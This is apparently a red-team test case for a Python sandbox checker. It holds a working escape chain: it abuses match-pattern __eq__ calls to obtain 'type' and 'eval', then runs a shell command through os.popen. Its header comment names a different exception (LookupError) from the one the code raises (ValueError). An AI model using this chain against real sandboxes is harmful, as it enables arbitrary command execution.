# expect: reject module_value
# line: 27
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: thirteenth red team (fourth round), family M: a dotted value pattern or mapping-pattern key hands its value to the subject's __eq__ or get (a module, a library class or method, a class-holding attribute, a library container's bound method)

# Mechanism: a match VALUE pattern 'case collections.Counter:' is subject == collections.Counter: it hands the library class to the subject's __eq__ (rule unbound refuses == for exactly this reason, but a dotted name in a pattern is not judged as a place). The program's __eq__ is 'pure' (memory rule) and raises LookupError(other); the handler (except Exception: the class named in raise must not be named in an except) reads e.args[0]
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, the 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD e936e29
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class Grab:
    def __eq__(self, other):
        raise ValueError(other)

class P:
    pass

try:
    match Grab():
        case collections.Counter:
            pass
except Exception as e:
    K = e.args[0]
T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
